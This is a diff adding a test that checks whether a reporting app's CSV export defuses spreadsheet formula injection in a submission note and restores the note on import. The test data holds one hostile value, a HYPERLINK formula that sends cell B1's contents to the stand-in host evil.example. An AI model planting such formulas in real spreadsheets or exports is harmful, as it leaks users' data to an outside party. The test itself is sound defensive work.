@@ -110,3 +110,16 @@ test('the XLSX template opens in exceljs and lists the form', async () => {
   assert.equal(ws.getCell('A5').value, 'labour.employment_agency.jobseekers');
   assert.equal(ws.getCell('D5').value, 118398, 'prefilled with what the form holds');
 });
+
+test('the CSV template defuses a note a spreadsheet would run as a formula, and reads it back as written', async () => {
+  const note = '=HYPERLINK("http://evil.example/?"&B1,"source")';
+  const saved = await reporter.put('/api/submissions/form', { agencyId: sea, period: '2025', values: [{ indicatorId: 'prevention.care_leavers.vocational', value: 6, note }] });
+  assert.equal(saved.status, 200, JSON.stringify(saved.body));
+  const template = await reporter.get(`/api/submissions/template?agencyId=${sea}&period=2025&format=csv&lang=en`);
+  const line = String(template.body).split(/\r\n/)[2] ?? '';
+  assert.ok(line.endsWith(`,"'=HYPERLINK(""http://evil.example/?""&B1,""source"")",`), line);
+  const back = await reporter.post('/api/submissions/import', { agencyId: sea, period: '2025', format: 'csv', contentBase64: Buffer.from(String(template.body)).toString('base64') });
+  assert.equal(back.status, 200, JSON.stringify(back.body));
+  const form = (await reporter.get(`/api/submissions/form?agencyId=${sea}&period=2025`)).body.submission;
+  assert.equal(form.values.find((v: { indicatorId: string }) => v.indicatorId === 'prevention.care_leavers.vocational').note, note, 'the mark is not stored');
+});
